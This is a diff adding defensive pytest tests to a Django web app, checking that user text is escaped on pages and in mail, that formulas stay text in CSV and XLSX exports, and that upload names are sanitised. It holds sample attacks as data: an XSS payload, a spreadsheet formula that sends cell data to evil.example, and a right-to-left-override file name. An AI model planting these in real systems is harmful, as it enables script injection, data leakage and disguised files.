@@ -1,0 +1,95 @@
+"""Text people type is shown as text: markup is escaped on pages and in mail, a formula stays
+words in a spreadsheet, and an uploaded file's name cannot hide what the file is."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from openpyxl import load_workbook
+
+from notifications.email import render_email
+from notifications.models import Notification
+from tests.web import signed_in
+from workflow.models import Attachment
+from workflow.services import opportunity_transition
+
+MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+ESCAPED = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+PDF = b"%PDF-1.7\n%%EOF\n"
+
+
+@pytest.fixture
+def hostile(make_opportunity):  # type: ignore[no-untyped-def]
+    return make_opportunity(state="identified", title=MARKUP, expected_results=MARKUP)
+
+
+@pytest.mark.parametrize(
+    "page", ["/register/", "/opportunities/{pk}/", "/opportunities/{pk}/edit/"]
+)
+def test_markup_in_a_title_is_shown_as_text(focal_point, hostile, page) -> None:  # type: ignore[no-untyped-def]
+    body = signed_in(focal_point).get(page.format(pk=hostile.pk)).content.decode()
+    assert MARKUP not in body
+    assert (
+        ESCAPED in body or ESCAPED.replace("&quot;", "&#x27;") in body or "&lt;script&gt;" in body
+    )
+
+
+def test_markup_in_a_title_is_text_in_the_mail(hostile, coordinator) -> None:  # type: ignore[no-untyped-def]
+    opportunity_transition(opportunity=hostile, user=coordinator, name="present")
+    notification = Notification.objects.filter(kind="opportunity.present").first()
+    assert notification is not None
+    message = render_email(notification)
+    html = message.alternatives[0][0]
+    assert isinstance(html, str)
+    assert "<script>" not in html and "&lt;script&gt;" in html
+
+
+def test_a_formula_in_a_title_stays_text_in_csv_and_xlsx(focal_point, make_opportunity) -> None:  # type: ignore[no-untyped-def]
+    make_opportunity(state="identified", title=FORMULA)
+    client = signed_in(focal_point)
+    rows = list(csv.reader(io.StringIO(client.get("/register/?export=csv").content.decode())))
+    assert rows[1][1] == "'" + FORMULA
+    book = load_workbook(io.BytesIO(client.get("/register/?export=xlsx").content))
+    cell = book.active["B2"]  # type: ignore[index]
+    assert cell.value == FORMULA and cell.data_type == "s"
+
+
+def test_an_uploaded_name_loses_folders_and_direction_tricks(focal_point, make_opportunity) -> None:  # type: ignore[no-untyped-def]
+    opportunity = make_opportunity()
+    # Shown as "invoicefdp.exe"-like text by a right-to-left override if kept.
+    upload = SimpleUploadedFile("invoice\u202egpj\x07.pdf", PDF)
+    response = signed_in(focal_point).post(
+        f"/opportunities/{opportunity.pk}/attachments/", {"file": upload}
+    )
+    assert response.status_code == 302
+    attachment = Attachment.objects.get()
+    assert attachment.original_name == "invoicegpj.pdf"
+    assert attachment.file.name.endswith(f"{attachment.token}.pdf")
+
+
+def test_a_name_that_is_only_an_extension_is_refused(focal_point, make_opportunity) -> None:  # type: ignore[no-untyped-def]
+    opportunity = make_opportunity()
+    response = signed_in(focal_point).post(
+        f"/opportunities/{opportunity.pk}/attachments/",
+        {"file": SimpleUploadedFile("\u202e.pdf", PDF)},
+    )
+    assert response.status_code == 400
+    assert "ფაილს სახელი სჭირდება" in response.content.decode()
+    assert not Attachment.objects.exists()
+
+
+def test_an_oversized_upload_is_refused_with_the_limit(
+    focal_point, make_opportunity, settings
+) -> None:  # type: ignore[no-untyped-def]
+    settings.DONORFLOW_UPLOAD_MAX_MB = 1
+    opportunity = make_opportunity()
+    big = SimpleUploadedFile("big.pdf", PDF + b"0" * (1024 * 1024))
+    response = signed_in(focal_point).post(
+        f"/opportunities/{opportunity.pk}/attachments/", {"file": big}
+    )
+    assert response.status_code == 400 and "1.0" in response.content.decode()
+    assert not Attachment.objects.exists()
